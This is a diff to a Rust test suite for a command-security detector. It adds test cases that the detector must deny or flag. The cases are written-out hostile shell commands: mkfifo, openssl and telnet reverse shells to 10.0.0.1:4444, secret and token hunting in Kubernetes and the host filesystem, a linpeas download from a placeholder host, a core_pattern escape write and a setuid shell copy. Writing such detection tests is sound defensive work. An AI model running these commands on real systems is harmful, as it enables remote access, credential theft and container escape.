@@ -951,6 +951,18 @@ fn high_confidence_attack_behaviour_denies_alone() {
         ("ncat -l 4444 --sh-exec 'bash -i'", "exec-reverse-shell"),
         ("socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash,pty,stderr", "exec-reverse-shell"),
         ("socat tcp-l:4444 system:sh", "exec-reverse-shell"),
+        // A shell piped to or from a network connection (the mkfifo forms).
+        ("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f", "exec-reverse-shell"),
+        ("mkfifo /tmp/f; nc -l 4444 < /tmp/f | /bin/sh > /tmp/f 2>&1", "exec-reverse-shell"),
+        ("mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:4444 > /tmp/s", "exec-reverse-shell"),
+        ("telnet 10.0.0.1 4444 | /bin/bash | telnet 10.0.0.1 4445", "exec-reverse-shell"),
+        // More spellings of the classes above.
+        ("trufflehog filesystem /", "exec-credential-hunt"),
+        ("find / -name '*.tfstate' 2>/dev/null", "exec-credential-hunt"),
+        ("kubectl create token default -n kube-system", "exec-api-secret-read"),
+        ("cat /host/var/lib/kubelet/pods/*/volumes/kubernetes.io~secret/*/token", "exec-host-secret-read"),
+        ("python3 -c \"import urllib.request; urllib.request.urlretrieve('https://x.example/linpeas.sh','/tmp/l')\"", "exec-toolkit-download"),
+        ("sysctl -w kernel.core_pattern='|/tmp/x'", "exec-escape-artifact"),
     ];
     let mut failures = Vec::new();
     for (command, rule) in cases {
@@ -1016,6 +1028,13 @@ fn discovery_and_probes_annotate_without_denying() {
         ("kubectl get pods -A", "exec-kubectl"),
         ("cat ~/.aws/credentials", "exec-credential-read"),
         ("env | grep AWS_SECRET", "exec-credential-read"),
+        // Reading core_pattern is how operators find core dumps; writing it is an escape.
+        ("cat /proc/sys/kernel/core_pattern", "exec-host-info-read"),
+        (
+            "install -m 4755 /bin/sh /tmp/sh",
+            "exec-privilege-escalation",
+        ),
+        ("cat /proc/sched_debug", "exec-proc-process-read"),
     ];
     let mut failures = Vec::new();
     for (command, rule) in cases {
